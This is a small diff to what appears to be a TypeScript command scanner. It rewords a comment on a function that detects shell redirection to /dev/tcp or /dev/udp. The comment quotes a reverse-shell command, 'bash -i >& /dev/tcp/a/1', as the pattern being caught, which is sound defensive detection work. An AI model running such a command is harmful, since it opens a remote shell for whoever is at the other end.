@@ -49,7 +49,7 @@ const isIn =
 const nameOf = (word: string): string =>
   basename(word.replace(/^--?[\w-]+=/, '').replace(/[?#].*$/, '')) || '/';
 
-/** `bash -i >& /dev/tcp/a/1`: whoever is at the other end types into it. */
+/** `bash -i >& /dev/tcp/a/1`: the other end types into it. */
 function handsOverShell(parts: readonly Part[]): Finding[] {
   const isHanded = parts.some(({ text, words }, i) => {
     if (words !== undefined || !/\/dev\/(tcp|udp)\//.test(text)) return false;
